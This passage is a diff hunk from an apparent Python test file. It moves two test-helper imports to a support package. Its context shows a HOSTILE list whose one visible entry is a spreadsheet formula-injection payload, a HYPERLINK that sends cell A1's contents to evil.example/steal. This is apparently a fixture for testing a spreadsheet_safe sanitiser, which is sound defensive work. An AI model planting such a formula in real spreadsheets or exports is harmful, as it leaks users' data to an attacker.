@@ -11,8 +11,8 @@ import pytest
 from core.batch.journal import Journal
 from core.batch.report import spreadsheet_safe, write_report
 from core.models import Entry, ItemUpdate, Status
-from tests.core.test_cli import thumbnailer
-from tests.loopback import LoopbackServer
+from tests.support.command import thumbnailer
+from tests.support.loopback import LoopbackServer
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/steal?d="&A1,"click")',
